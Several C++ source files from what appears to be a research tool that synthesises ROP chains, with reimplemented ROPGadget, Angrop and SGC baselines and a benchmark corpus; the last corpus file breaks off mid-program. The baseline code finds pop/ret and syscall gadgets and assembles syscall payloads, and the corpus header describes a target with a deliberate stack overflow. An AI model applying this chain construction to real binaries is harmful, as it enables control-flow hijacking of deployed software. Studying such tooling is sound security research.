  const JobResult& r = results[static_cast<size_t>(cp.job)];
  cp.program = r.program;
  cp.obfuscation = r.obfuscation;
  cp.end_seconds = r.end_seconds;
  cp.stage = "extract";
  cp.stage_seconds = r.stages.extract_seconds;
  if (r.stages.subsume_seconds > cp.stage_seconds) {
    cp.stage = "subsume";
    cp.stage_seconds = r.stages.subsume_seconds;
  }
  if (r.stages.plan_seconds > cp.stage_seconds) {
    cp.stage = "plan";
    cp.stage_seconds = r.stages.plan_seconds;
  }
  return cp;
}

std::string Campaign::Summary::to_json() const {
  std::string j;
  j += "{\n";
  j += "  \"schema\": \"gp-campaign-v1\",\n";
  j += "  \"jobs\": " + std::to_string(results.size()) + ",\n";
  j += "  \"concurrency\": " + std::to_string(concurrency) + ",\n";
  j += "  \"pool_threads\": " + std::to_string(pool_threads) + ",\n";
  j += "  \"wall_seconds\": " + format_double(wall_seconds) + ",\n";
  j += "  \"jobs_ok\": " + std::to_string(jobs_ok) + ",\n";
  j += "  \"jobs_degraded\": " + std::to_string(jobs_degraded) + ",\n";
  j += "  \"jobs_failed\": " + std::to_string(jobs_failed) + ",\n";
  j += "  \"metrics\": " +
       (metrics_json.empty() ? std::string("{}") : metrics_json) + ",\n";
  const CriticalPath cp = critical_path();
  j += "  \"critical_path\": {\"job\": " + std::to_string(cp.job) +
       ", \"program\": \"" + json_escape(cp.program) +
       "\", \"obfuscation\": \"" + json_escape(cp.obfuscation) +
       "\", \"stage\": \"" + cp.stage +
       "\", \"stage_seconds\": " + format_double(cp.stage_seconds) +
       ", \"end_seconds\": " + format_double(cp.end_seconds) + "},\n";
  j += "  \"results\": [\n";
  for (size_t i = 0; i < results.size(); ++i) {
    const JobResult& r = results[i];
    const auto& s = r.stages;
    j += "    {\"program\": \"" + json_escape(r.program) + "\", ";
    j += "\"obfuscation\": \"" + json_escape(r.obfuscation) + "\", ";
    j += "\"opt_level\": " + std::to_string(r.opt_level) + ", ";
    j += "\"code_bytes\": " + std::to_string(r.code_bytes) + ", ";
    j += "\"status\": \"" + std::string(status_code_name(r.status.code())) +
         "\", ";
    j += "\"extract_seconds\": " + format_double(s.extract_seconds) + ", ";
    j += "\"subsume_seconds\": " + format_double(s.subsume_seconds) + ", ";
    j += "\"plan_seconds\": " + format_double(s.plan_seconds) + ", ";
    j += "\"job_seconds\": " + format_double(r.seconds) + ", ";
    j += "\"start_seconds\": " + format_double(r.start_seconds) + ", ";
    j += "\"end_seconds\": " + format_double(r.end_seconds) + ", ";
    j += "\"pool_raw\": " + std::to_string(s.pool_raw) + ", ";
    j += "\"pool_minimized\": " + std::to_string(s.pool_minimized) + ", ";
    // kRssUnknown renders as -1: consumers must be able to tell "probe
    // failed" from a real (even zero) measurement.
    j += "\"rss_mb_after_plan\": " +
         (s.rss_mb_after_plan == kRssUnknown
              ? std::string("-1")
              : std::to_string(s.rss_mb_after_plan)) +
         ", ";
    j += "\"attempts\": {\"extract\": " +
         std::to_string(s.extract_runs.attempts) +
         ", \"subsume\": " + std::to_string(s.subsume_runs.attempts) +
         ", \"plan\": " + std::to_string(s.plan_runs.attempts) + "}, ";
    j += "\"retries\": {\"extract\": " +
         std::to_string(s.extract_runs.retries) +
         ", \"subsume\": " + std::to_string(s.subsume_runs.retries) +
         ", \"plan\": " + std::to_string(s.plan_runs.retries) + "}, ";
    j += "\"backoff_seconds\": " +
         format_double(s.extract_runs.backoff_seconds +
                       s.subsume_runs.backoff_seconds +
                       s.plan_runs.backoff_seconds) +
         ", ";
    j += "\"metrics\": {\"offsets_scanned\": " +
         std::to_string(r.extract_stats.offsets_scanned) +
         ", \"gadgets\": " + std::to_string(r.extract_stats.gadgets) +
         ", \"paths_cut\": " + std::to_string(r.extract_stats.paths_cut) +
         ", \"subsume_solver_checks\": " +
         std::to_string(r.subsume_stats.solver_checks) +
         ", \"subsume_structural_hits\": " +
         std::to_string(r.subsume_stats.structural_hits) +
         ", \"plan_expansions\": " +
         std::to_string(r.planner_stats.expansions) +
         ", \"plan_dead_ends\": " +
         std::to_string(r.planner_stats.dead_ends) +
         ", \"plan_concretize_calls\": " +
         std::to_string(r.planner_stats.concretize_calls) +
         ", \"plan_validated\": " +
         std::to_string(r.planner_stats.validated) +
         ", \"plan_index_hits\": " +
         std::to_string(r.planner_stats.index_hits) +
         ", \"plan_index_loads\": " +
         std::to_string(r.planner_stats.index_loads) +
         ", \"plan_nogood_hits\": " +
         std::to_string(r.planner_stats.nogood_hits) +
         ", \"plan_needs_truncated\": " +
         std::to_string(r.planner_stats.needs_truncated) +
         ", \"plan_unreachable_goals\": " +
         std::to_string(r.planner_stats.unreachable_goals) +
         // Microsecond precheck time, plus the legacy ms counter derived
         // from it (a sub-ms precheck used to truncate to "0 ms spent").
         ", \"plan_unreachable_us\": " +
         std::to_string(static_cast<u64>(r.planner_stats.precheck_seconds *
                                         1e6)) +
         ", \"plan_unreachable_ms\": " +
         std::to_string(static_cast<u64>(r.planner_stats.precheck_seconds *
                                         1e6) /
                        1000) +
         "}, ";
    j += "\"goals\": {";
    for (size_t g = 0; g < r.chains_per_goal.size(); ++g) {
      if (g) j += ", ";
      const std::string name =
          g < r.goal_names.size() ? r.goal_names[g] : std::to_string(g);
      j += "\"" + json_escape(name) +
           "\": " + std::to_string(r.chains_per_goal[g]);
    }
    j += "}, ";
    j += "\"chains_per_goal\": [";
    for (size_t g = 0; g < r.chains_per_goal.size(); ++g) {
      if (g) j += ", ";
      j += std::to_string(r.chains_per_goal[g]);
    }
    j += "], ";
    j += "\"chains_total\": " + std::to_string(r.total_chains()) + ", ";
    j += "\"digest\": \"" + hex16(r.result_digest) + "\"}";
    j += (i + 1 < results.size()) ? ",\n" : "\n";
  }
  j += "  ]\n";
  j += "}\n";
  return j;
}

}  // namespace gp::core
