// Session: one per-image analysis bound to an Engine.
//
// A session's stages are explicit, lazily-run, immutable artifacts rather
// than constructor side effects:
//
//   Session s(engine, img);
//   s.extract();                       // optional: stages run on demand
//   s.subsume();
//   auto chains = s.find_chains(goal); // runs any missing stage first
//
// Each stage runs at most once; its output (the raw pool, the minimized
// library) is immutable afterwards and every accessor observes the same
// artifact. Stages are supervised (retry with widened budgets on
// recoverable failure) and checkpointed through the engine's artifact
// store exactly as the monolithic GadgetPlanner pipeline was.
//
// Concurrency contract: ONE thread drives a given session, but any number
// of sessions may run concurrently against one Engine — each session owns
// its solver context, governor and stats; everything shared (thread pool,
// store handles, fault counters) is internally synchronized. N concurrent
// sessions over distinct images produce byte-identical results to N
// sequential runs (tests/test_parallel.cpp proves it under tsan).
#pragma once

#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/engine.hpp"
#include "gadget/gadget.hpp"
#include "image/image.hpp"
#include "payload/payload.hpp"
#include "planner/planner.hpp"
#include "subsume/subsume.hpp"

namespace gp::core {

/// Retry policy for the stage supervisor: a stage that fails for a
/// *recoverable* reason (exhausted counted budget, injected fault, internal
/// error) is re-run up to max_retries more times, each retry after an
/// exponentially longer backoff and with every counted budget widened by
/// budget_widen_factor. Deadline expiry and cancellation are never retried
/// — wall-clock budgets and the caller's cancel are hard contracts.
struct SupervisorOptions {
  int max_retries = 2;             // extra attempts after the first
  double backoff_initial_ms = 25;  // sleep before the first retry
  double backoff_multiplier = 4;   // backoff growth per retry
  double budget_widen_factor = 4;  // counted-budget growth per retry

  /// GP_RETRIES overrides max_retries (>= 0; unset/unparsable keeps the
  /// default). Routed through gp::Config (fresh parse).
  static SupervisorOptions from_env();
};

/// GP_STORE_DIR, or "" when unset (checkpointing disabled). Routed through
/// gp::Config (fresh parse).
std::string store_dir_from_env();

struct PipelineOptions {
  gadget::ExtractOptions extract;
  bool run_subsumption = true;  // ablation hook (DESIGN.md #1)
  planner::Options plan;
  /// Resource limits for this session. The session owns one Governor built
  /// from these and threads it through every stage (extraction,
  /// subsumption, planning, concretization); by default they are read from
  /// the environment (GP_DEADLINE_MS, GP_SOLVER_CHECKS, GP_SYM_STEPS,
  /// GP_EXPR_NODES), all unlimited when unset. Campaigns overwrite this
  /// with a per-session share of the engine budget
  /// (GovernorOptions::split_across).
  GovernorOptions governor = GovernorOptions::from_env();
  /// Stage-supervisor retry policy (GP_RETRIES).
  SupervisorOptions supervise = SupervisorOptions::from_env();
  /// Artifact-store directory for durable checkpoint/resume; "" disables.
  /// Defaults to the GP_STORE_DIR env knob. Stage outputs (extracted pool,
  /// minimized pool, chains per goal) are checkpointed under content-hash
  /// keys of (image bytes, stage options, format version), so a later run
  /// — same process or a fresh one after a crash/OOM-kill — resumes from
  /// the last good checkpoint instead of recomputing solver work.
  std::string store_dir = store_dir_from_env();
  /// Progress hook, invoked on the session's thread at the start of each
  /// stage ("extract", "subsume", "plan") before any work runs. gp_serve
  /// streams these to attached clients; exceptions from the hook are the
  /// caller's bug and propagate.
  std::function<void(const char* stage)> on_stage;
};

/// Attempt/resume/cache accounting for one supervised pipeline stage.
struct StageRuns {
  u32 attempts = 0;    // stage-body executions in this process
  u32 retries = 0;     // attempts the supervisor re-ran after a failure
  u32 cache_hits = 0;  // outputs served from a checkpoint this process wrote
  u32 resumes = 0;     // outputs served from an earlier process's checkpoint
  /// Wall time the supervisor spent asleep between attempts. Excluded from
  /// the stage's StageReport seconds — those measure pipeline work, and
  /// counting deliberate backoff sleep as stage time made retried stages
  /// look pathologically slow (the Table VII double-count bug).
  double backoff_seconds = 0;
};

/// Wall-clock and size accounting per pipeline stage (Table VII).
struct StageReport {
  /// Per-stage wall time spent doing pipeline work: supervisor backoff
  /// sleep (StageRuns::backoff_seconds) is excluded.
  double extract_seconds = 0;
  double subsume_seconds = 0;
  double plan_seconds = 0;
  u64 pool_raw = 0;        // gadgets out of extraction
  u64 pool_minimized = 0;  // gadgets after subsumption
  u64 rss_mb_after_extract = 0;
  u64 rss_mb_after_subsume = 0;
  u64 rss_mb_after_plan = 0;
  /// Degradation accounting: Ok for a clean run of the stage, otherwise
  /// the first reason (deadline, cancellation, budget, injected fault)
  /// that stage ran degraded. A degraded stage still yields usable —
  /// merely smaller — results; nothing here is an error.
  Status extract_status;
  Status subsume_status;
  Status plan_status;
  /// Supervisor accounting: how many times each stage actually ran, how
  /// many of those were retries, and how often a checkpoint substituted
  /// for the run entirely (cache_hits within this process, resumes across
  /// processes).
  StageRuns extract_runs;
  StageRuns subsume_runs;
  StageRuns plan_runs;
  /// Artifact-store counters for this session's window (all zero when
  /// checkpointing is disabled).
  store::Stats store;

  /// The worst stage status: Ok for a clean run; the first degradation
  /// code (deadline, budget, fault, cancel) for a degraded-but-usable run.
  Status worst_status() const {
    Status s;
    s.merge(extract_status).merge(subsume_status).merge(plan_status);
    return s;
  }
};

/// current_rss_mb() when /proc is unavailable or VmRSS cannot be parsed.
/// Distinguishable from a genuine measurement — a 0 MiB reading used to be
/// silently ambiguous between "tiny process" and "probe failed".
inline constexpr u64 kRssUnknown = ~u64{0};

/// Resident set size of this process in MiB, rounded to nearest (the old
/// truncating kB/1024 under-reported by up to a full MiB); kRssUnknown when
/// the probe fails. The /proc/self/status fd is opened once and pread from
/// offset 0 per call instead of re-opened per stage.
u64 current_rss_mb();

/// Parse the VmRSS line out of /proc/self/status content; nullopt when the
/// line is absent. Split out (and exported) so the parser is unit-testable
/// without a live /proc.
std::optional<u64> parse_vmrss_mb(const std::string& status_text);

/// "123" or "n/a" for kRssUnknown — every human-facing report shares one
/// rendering of the sentinel.
std::string format_rss_mb(u64 mb);

class Session {
 public:
  /// Borrowing constructor: `img` must outlive the session.
  Session(Engine& engine, const image::Image& img, PipelineOptions opts = {});
  /// Owning constructor: the session keeps the image alive itself (the
  /// shape campaign jobs use — the compiled image has no other home).
  Session(Engine& engine, image::Image&& img, PipelineOptions opts = {});

  Session(const Session&) = delete;
  Session& operator=(const Session&) = delete;

  /// Stage 1: gadget extraction (supervised, checkpointed). Idempotent —
  /// the first call computes the raw pool, later calls return the recorded
  /// status without re-running anything.
  Status extract();
  /// Stage 2: subsumption winnow + library construction (supervised,
  /// checkpointed; runs extract() first if needed). Idempotent. With
  /// run_subsumption=false the winnow is skipped and the raw pool becomes
  /// the library unchanged.
  Status subsume();
  /// Ensure both pool stages have run (extract + subsume).
  void prepare() { (void)subsume(); }

  /// Stages 3+4 per goal: plan + concretize (supervised, checkpointed per
  /// goal). Runs any missing pool stage first.
  std::vector<payload::Chain> find_chains(const payload::Goal& goal);

  /// The minimized library. The non-const overload runs the missing pool
  /// stages; the const overload requires prepare() to have run.
  const gadget::Library& library() {
    prepare();
    return *lib_;
  }
  const gadget::Library& library() const {
    GP_CHECK(lib_ != nullptr, "Session::library() before prepare()");
    return *lib_;
  }

  Engine& engine() { return engine_; }
  solver::Context& ctx() { return *ctx_; }
  const image::Image& img() const { return *img_; }
  /// Process-unique session id (from Engine::next_session_id); trace spans
  /// carry it so a campaign's interleaved stages stay attributable.
  u64 id() const { return id_; }

  const StageReport& report() const { return report_; }
  const planner::Stats& planner_stats() const { return planner_stats_; }
  const gadget::ExtractStats& extract_stats() const { return extract_stats_; }
  const subsume::Stats& subsume_stats() const { return subsume_stats_; }
  /// The session's governor (never null). Cancel it from another thread to
  /// stop the session cooperatively at the next poll point.
  Governor& governor() { return *gov_; }

  /// The artifact store backing checkpoint/resume, or nullptr when
  /// disabled (opts.store_dir empty). Shared with every other session on
  /// the same directory.
  store::ArtifactStore* store() { return store_.get(); }

 private:
  /// Run `body` as a restartable unit: attempt 0 under the session
  /// governor; on a recoverable failure (budget exhaustion, injected
  /// fault, internal error — never deadline expiry or cancellation),
  /// retry after exponential backoff under a fresh governor with widened
  /// counted budgets, up to opts_.supervise.max_retries extra attempts.
  /// `body` receives the governor for that attempt and returns the stage
  /// Status; throws from the final attempt propagate.
  Status run_supervised(const char* stage, StageRuns& runs,
                        const std::function<Status(Governor&)>& body);

  /// Key material shared by every stage: the image content (entry, code,
  /// data) and the store format version.
  void append_image_key(serial::Writer& w) const;

  /// Re-intern `pool` from its serialized form into a fresh context so the
  /// next stage sees state that depends only on pool content — the same
  /// state a resumed run reconstructs from a checkpoint.
  void canonicalize_pool(std::vector<gadget::Record>& pool);

  /// Refresh report_.store with this session's window of store activity.
  void snapshot_store_stats();

  Engine& engine_;
  u64 id_ = 0;
  std::optional<image::Image> owned_img_;  // set by the owning constructor
  const image::Image* img_;
  PipelineOptions opts_;
  std::unique_ptr<Governor> gov_;
  std::unique_ptr<solver::Context> ctx_;
  std::shared_ptr<store::ArtifactStore> store_;
  store::Stats store_baseline_;  // store stats when this session opened
  /// Governors built for retries; kept alive for the session because
  /// stage stats may reference them.
  std::vector<std::unique_ptr<Governor>> retry_govs_;

  bool extracted_ = false;  // stage-1 artifact exists
  bool subsumed_ = false;   // stage-2 artifact (lib_) exists
  std::vector<gadget::Record> pool_;  // raw pool between stages 1 and 2
  /// Content digest of the current canonical pool (gadget::pool_digest of
  /// its encoded form); 0 until canonicalize_pool succeeds. Keys the
  /// planner's warm-start memos (candidate index, nogood tables).
  u64 pool_digest_ = 0;
  std::unique_ptr<gadget::Library> lib_;

  StageReport report_;
  planner::Stats planner_stats_;
  gadget::ExtractStats extract_stats_;
  subsume::Stats subsume_stats_;
};

}  // namespace gp::core
