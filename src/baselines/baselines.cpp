#include "baselines/baselines.hpp"

#include <algorithm>
#include <map>
#include <set>

#include "planner/planner.hpp"
#include "x86/decoder.hpp"

namespace gp::baselines {

using gadget::EndKind;
using gadget::Library;
using gadget::Record;
using payload::Chain;
using payload::Goal;
using payload::RegTarget;
using x86::Mnemonic;
using x86::Reg;

// ---------------------------------------------------------------------------
// ROPGadget-like
// ---------------------------------------------------------------------------

namespace {

/// Decode a candidate gadget: all instructions from `addr` must decode,
/// stay straight-line, and hit the ret at `ret_addr` exactly.
std::optional<std::vector<x86::Inst>> decode_to_ret(const image::Image& img,
                                                    u64 addr, u64 ret_addr,
                                                    int max_insts) {
  std::vector<x86::Inst> insts;
  u64 pc = addr;
  for (int i = 0; i < max_insts && pc <= ret_addr; ++i) {
    auto inst = x86::decode(img.code_at(pc), pc);
    if (!inst) return std::nullopt;
    insts.push_back(*inst);
    if (pc == ret_addr)
      return inst->mnemonic == Mnemonic::RET
                 ? std::make_optional(insts)
                 : std::nullopt;
    if (inst->is_terminator()) return std::nullopt;  // control flow: reject
    pc += inst->len;
  }
  return std::nullopt;
}

std::string gadget_string(const std::vector<x86::Inst>& insts) {
  std::string s;
  for (const auto& i : insts) {
    if (!s.empty()) s += " ; ";
    s += x86::to_string(i);
  }
  return s;
}

/// Is this exactly `pop <reg>; ret`?
bool is_pop_reg_ret(const std::vector<x86::Inst>& insts, Reg reg) {
  return insts.size() == 2 && insts[0].mnemonic == Mnemonic::POP &&
         insts[0].dst.is_reg() && insts[0].dst.reg == reg &&
         insts[1].mnemonic == Mnemonic::RET && !insts[1].dst.is_imm();
}

}  // namespace

Result rop_gadget(const image::Image& img, const Goal& goal, int max_insts) {
  Result result;
  result.tool = "ROPGadget";

  std::set<std::string> unique;
  std::map<Reg, u64> pop_gadget_addr;
  std::optional<u64> syscall_addr;

  const auto code = img.code();
  for (size_t off = 0; off < code.size(); ++off) {
    const u64 addr = img.code_base() + off;
    // syscall opportunistically (ROPGadget also lists syscall gadgets).
    if (off + 1 < code.size() && code[off] == 0x0F && code[off + 1] == 0x05) {
      if (!syscall_addr) syscall_addr = addr;
      unique.insert("syscall");
    }
    if (code[off] != 0xC3) continue;  // find each ret, scan backwards
    for (int back = 1; back <= 24; ++back) {
      if (off < static_cast<size_t>(back)) break;
      const u64 start = addr - back;
      auto insts = decode_to_ret(img, start, addr, max_insts);
      if (!insts) continue;
      unique.insert(gadget_string(*insts));
      for (int r = 0; r < x86::kNumRegs; ++r) {
        const Reg reg = static_cast<Reg>(r);
        if (is_pop_reg_ret(*insts, reg) && !pop_gadget_addr.count(reg))
          pop_gadget_addr[reg] = start;
      }
    }
  }
  result.gadgets_total = unique.size();

  // Template chaining: every goal register must have its own
  // `pop reg; ret`, plus a syscall gadget. No fallback whatsoever.
  if (!syscall_addr) return result;
  for (const RegTarget& t : goal.regs)
    if (!pop_gadget_addr.count(t.reg)) return result;

  // Assemble the classic payload: [pop_r][value] ... [syscall].
  Chain chain;
  chain.goal_name = goal.name;
  std::vector<u8> payload;
  auto put64 = [&payload](u64 v) {
    for (int i = 0; i < 8; ++i) payload.push_back(static_cast<u8>(v >> (8 * i)));
  };
  const u64 stack_base = image::kStackTop - 0x2000;
  // Pointer targets point past the chain; compute the layout first.
  const size_t n = goal.regs.size();
  const size_t chain_slots = 2 * n + 1;  // n (gadget,value) pairs + syscall
  u64 pointer_off = 8 * chain_slots;
  std::vector<std::pair<u64, std::vector<u8>>> pointer_data;

  bool first = true;
  for (const RegTarget& t : goal.regs) {
    const u64 gaddr = pop_gadget_addr.at(t.reg);
    if (first) {
      chain.entry = gaddr;
      first = false;
    } else {
      put64(gaddr);
    }
    if (t.kind == RegTarget::Kind::Const) {
      put64(t.value);
    } else {
      put64(stack_base + pointer_off);
      pointer_data.emplace_back(pointer_off, t.bytes);
      pointer_off += 8;
    }
    chain.ret_gadgets++;
    chain.total_insts += 2;
  }
  put64(*syscall_addr);
  chain.total_insts += 1;
  payload.resize(pointer_off, 0);
  for (const auto& [off, bytes] : pointer_data)
    std::copy(bytes.begin(), bytes.end(), payload.begin() + off);
  chain.payload = std::move(payload);
  // ROPGadget has no Library; gadgets[] carries only the count.
  chain.gadgets.assign(goal.regs.size() + 1, 0);

  if (payload::validate(img, chain, goal, stack_base, 0xbead1)) {
    result.gadgets_used = chain.gadgets.size();
    result.chains.push_back(std::move(chain));
  }
  return result;
}

// ---------------------------------------------------------------------------
// Angrop-like
// ---------------------------------------------------------------------------

namespace {

/// Angrop's notion of a usable register setter: a clean, unconditional,
/// side-effect-free return gadget whose only job is popping the register.
bool clean_setter(solver::Context& ctx, const Record& g, Reg reg) {
  if (g.end != EndKind::Ret) return false;
  if (g.has_cond_jump || g.has_direct_jump) return false;
  if (!g.stack_delta || *g.stack_delta <= 0 || *g.stack_delta > 40)
    return false;
  if (!g.writes.empty() || !g.ind_reads.empty()) return false;
  if (!g.precond.empty()) return false;
  if (!g.controls(reg)) return false;
  // The provided value must be a raw payload slot (a pop), not arithmetic.
  return ctx.is_var(g.final_regs[static_cast<int>(reg)]);
}

}  // namespace

Result angrop(solver::Context& ctx, const Library& lib,
              const image::Image& img, const Goal& goal) {
  Result result;
  result.tool = "Angrop";

  // Angrop's pool: unconditional return gadgets only.
  u64 pool = 0;
  for (const Record& g : lib.all())
    if (g.end == EndKind::Ret && !g.has_cond_jump && !g.has_direct_jump)
      ++pool;
  result.gadgets_total = pool;

  // set_regs: one clean setter per goal register (first = shortest).
  std::vector<u32> seq;
  for (const RegTarget& t : goal.regs) {
    std::optional<u32> found;
    for (const u32 gi : lib.controlling(t.reg)) {
      if (clean_setter(ctx, lib[gi], t.reg)) {
        found = gi;
        break;
      }
    }
    if (!found) return result;  // strict: missing setter = total failure
    seq.push_back(*found);
  }
  // Bare syscall gadget.
  std::optional<u32> sys;
  for (const u32 si : lib.syscalls())
    if (lib[si].clobbered == 0 && !lib[si].has_cond_jump) {
      sys = si;
      break;
    }
  if (!sys) return result;
  seq.push_back(*sys);

  auto chain = payload::concretize(ctx, lib, img, seq, goal, {});
  if (chain) {
    result.gadgets_used = chain->gadgets.size();
    result.chains.push_back(std::move(*chain));
  }
  return result;
}

// ---------------------------------------------------------------------------
// SGC-like
// ---------------------------------------------------------------------------

Result sgc(solver::Context& ctx, const Library& lib, const image::Image& img,
           const Goal& goal, int max_chains, double time_budget_seconds) {
  Result result;
  result.tool = "SGC";

  u64 pool = 0;
  for (const Record& g : lib.all())
    if (!g.has_cond_jump && !g.has_direct_jump) ++pool;
  result.gadgets_total = pool;

  planner::Planner planner(ctx, lib, img);
  planner::Options opts;
  opts.use_cond_gadgets = false;   // SGC's documented gap
  opts.use_direct_merged = false;  // ditto
  opts.use_indirect_gadgets = true;
  opts.max_chains = max_chains;
  opts.max_expansions = 1200;
  opts.time_budget_seconds = time_budget_seconds;
  result.chains = planner.plan(goal, opts);
  for (const Chain& c : result.chains) result.gadgets_used += c.gadgets.size();
  return result;
}

}  // namespace gp::baselines
