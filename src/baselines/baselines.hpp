// Reimplementations of the paper's three comparison tools, each built with
// exactly the restriction the paper blames for its failures on obfuscated
// code (Sec. III-C / VI-A):
//
//   ROPGadget-like  pure syntax: scan for ret-terminated byte sequences,
//                   chain only through hard-coded `pop <argreg>; ret`
//                   templates. "Once a gadget in the pattern is missing,
//                   the whole search fails."
//   Angrop-like     semantic matching (our symbolic records) but only over
//                   CLEAN return gadgets — single-purpose pop-style setters
//                   with concrete stack deltas, no conditional jumps, no
//                   merged direct jumps, no side effects; one chain per
//                   goal, always the same `pop reg; ret` shape.
//   SGC-like        solver-driven synthesis over return and indirect-jump
//                   gadgets (the planner with CJ/DJ gadget classes disabled
//                   and a smaller search budget).
//
// All three emit real payloads that are validated in the emulator, so their
// reported chain counts are as trustworthy as Gadget-Planner's.
#pragma once

#include "gadget/gadget.hpp"
#include "payload/payload.hpp"

namespace gp::baselines {

struct Result {
  std::string tool;
  u64 gadgets_total = 0;  // size of the tool's own gadget pool
  u64 gadgets_used = 0;   // gadgets appearing in emitted chains
  std::vector<payload::Chain> chains;
};

/// ROPGadget-like. Scans the image syntactically (own pool counting: unique
/// disassembly strings of ret-gadgets up to `max_insts`).
Result rop_gadget(const image::Image& img, const payload::Goal& goal,
                  int max_insts = 10);

/// Angrop-like. Shares the extracted library (its "gadget finding" stage),
/// but only consumes clean return gadgets.
Result angrop(solver::Context& ctx, const gadget::Library& lib,
              const image::Image& img, const payload::Goal& goal);

/// SGC-like. Solver-backed synthesis: ret + indirect-jump gadgets, no
/// conditional or direct-jump handling.
Result sgc(solver::Context& ctx, const gadget::Library& lib,
           const image::Image& img, const payload::Goal& goal,
           int max_chains = 4, double time_budget_seconds = 20.0);

}  // namespace gp::baselines
