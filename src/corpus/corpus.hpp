// The evaluation corpus — mini-C stand-ins for the paper's three program
// sets:
//   benchmark()  twelve small-but-diverse programs mirroring the shapes of
//                the Banescu obfuscation benchmark (sorting, searching,
//                arithmetic kernels, state machines, string handling);
//   spec()       four larger programs echoing the paper's buildable SPEC
//                2006 subset: 401.bzip2 (RLE + move-to-front compressor),
//                429.mcf (graph shortest path), 445.gobmk (board
//                evaluation), 456.hmmer (dynamic-programming matrix);
//   netperf()    a network-bandwidth-tester-like client whose option parser
//                contains the paper's break_args stack-overflow pattern
//                (Fig. 7) — the real-world case study target.
//
// Every program compiles with minic::compile_source, runs to completion in
// the emulator, and produces deterministic output (so obfuscated variants
// can be checked for semantic preservation).
#pragma once

#include <string>
#include <vector>

namespace gp::corpus {

struct ProgramSource {
  std::string name;
  std::string source;
};

const std::vector<ProgramSource>& benchmark();
const std::vector<ProgramSource>& spec();
const ProgramSource& netperf();

/// Find a program by name across all suites; throws gp::Error if absent.
const ProgramSource& by_name(const std::string& name);

}  // namespace gp::corpus
