#include "corpus/corpus.hpp"

#include "support/common.hpp"

namespace gp::corpus {

const std::vector<ProgramSource>& benchmark() {
  static const std::vector<ProgramSource> programs = {
      {"bubble_sort", R"(
int a[24];
int fill(int seed) {
  int i = 0; int x = seed;
  while (i < 24) { x = (x * 1103515245 + 12345) & 0x7fffffff; a[i] = x & 0xff; i = i + 1; }
  return x;
}
int main() {
  fill(42);
  int i = 0;
  while (i < 24) {
    int j = 0;
    while (j < 23 - i) {
      if (a[j] > a[j + 1]) { int t = a[j]; a[j] = a[j + 1]; a[j + 1] = t; }
      j = j + 1;
    }
    i = i + 1;
  }
  int k = 0; int sum = 0;
  while (k < 24) { sum = sum + a[k] * k; k = k + 1; }
  out(sum);
  return sum & 0xffff;
})"},
      {"binary_search", R"(
int a[32];
int bsearch(int lo, int hi, int key) {
  while (lo < hi) {
    int mid = (lo + hi) >> 1;
    if (a[mid] == key) return mid;
    if (a[mid] < key) { lo = mid + 1; } else { hi = mid; }
  }
  return 0 - 1;
}
int main() {
  int i = 0;
  while (i < 32) { a[i] = i * 3 + 1; i = i + 1; }
  int hits = 0; int k = 0;
  while (k < 100) {
    if (bsearch(0, 32, k) >= 0) { hits = hits + 1; }
    k = k + 1;
  }
  out(hits);
  return hits;
})"},
      {"crc32", R"(
byte msg[64];
int crc_update(int crc, int b) {
  crc = crc ^ b;
  int k = 0;
  while (k < 8) {
    if (crc & 1) { crc = (crc >> 1) ^ 0x6db88320; } else { crc = crc >> 1; }
    crc = crc & 0x7fffffff;
    k = k + 1;
  }
  return crc;
}
int main() {
  int i = 0;
  while (i < 64) { msg[i] = (i * 7 + 13) & 0xff; i = i + 1; }
  int crc = 0x7fffffff; int j = 0;
  while (j < 64) { crc = crc_update(crc, msg[j]); j = j + 1; }
  out(crc);
  return crc & 0xffff;
})"},
      {"fibonacci", R"(
int fib(int n) { if (n < 2) return n; return fib(n - 1) + fib(n - 2); }
int main() { int v = fib(17); out(v); return v & 0xffff; })"},
      {"gcd_lcm", R"(
int gcd(int a, int b) {
  while (b != 0) { int t = b; int q = a; while (q >= b) { q = q - b; } b = q; a = t; }
  return a;
}
int main() {
  int sum = 0; int i = 1;
  while (i < 30) {
    int j = i + 1;
    while (j < 30) { sum = sum + gcd(i * 7, j * 5); j = j + 3; }
    i = i + 2;
  }
  out(sum);
  return sum & 0xffff;
})"},
      {"primes_sieve", R"(
byte sieve[200];
int main() {
  int i = 2;
  while (i < 200) { sieve[i] = 1; i = i + 1; }
  i = 2;
  while (i * i < 200) {
    if (sieve[i]) {
      int j = i * i;
      while (j < 200) { sieve[j] = 0; j = j + i; }
    }
    i = i + 1;
  }
  int count = 0; int k = 2;
  while (k < 200) { if (sieve[k]) { count = count + 1; } k = k + 1; }
  out(count);
  return count;
})"},
      {"string_search", R"(
int match_at(int text, int pat, int pos) {
  int k = 0;
  while (loadb(pat + k) != 0) {
    if (loadb(text + pos + k) != loadb(pat + k)) return 0;
    k = k + 1;
  }
  return 1;
}
int main() {
  int text = "the quick brown fox jumps over the lazy dog the end";
  int found = 0; int pos = 0;
  while (loadb(text + pos) != 0) {
    if (match_at(text, "the", pos)) { found = found + 1; }
    pos = pos + 1;
  }
  out(found);
  return found;
})"},
      {"matrix_mult", R"(
int a[16]; int b[16]; int c[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = i + 1; b[i] = 16 - i; i = i + 1; }
  int r = 0;
  while (r < 4) {
    int col = 0;
    while (col < 4) {
      int acc = 0; int k = 0;
      while (k < 4) { acc = acc + a[r * 4 + k] * b[k * 4 + col]; k = k + 1; }
      c[r * 4 + col] = acc;
      col = col + 1;
    }
    r = r + 1;
  }
  int sum = 0; int j = 0;
  while (j < 16) { sum = sum + c[j]; j = j + 1; }
  out(sum);
  return sum & 0xffff;
})"},
      {"state_machine", R"(
byte input[40];
int main() {
  int i = 0;
  while (i < 40) { input[i] = (i * 11 + 3) & 3; i = i + 1; }
  int state = 0; int accepted = 0; int j = 0;
  while (j < 40) {
    int sym = input[j];
    if (state == 0) { if (sym == 1) { state = 1; } else { state = 0; } }
    else { if (state == 1) { if (sym == 2) { state = 2; } else { if (sym == 1) { state = 1; } else { state = 0; } } }
    else { if (sym == 3) { accepted = accepted + 1; state = 0; } else { state = 2; } } }
    j = j + 1;
  }
  out(accepted); out(state);
  return accepted * 10 + state;
})"},
      {"rle_codec", R"(
byte src[48]; byte enc[96]; byte dec[48];
int main() {
  int i = 0;
  while (i < 48) { src[i] = ((i >> 3) * 5) & 0xff; i = i + 1; }
  int w = 0; int r = 0;
  while (r < 48) {
    int v = src[r]; int run = 1;
    while (r + run < 48 && src[r + run] == v && run < 255) { run = run + 1; }
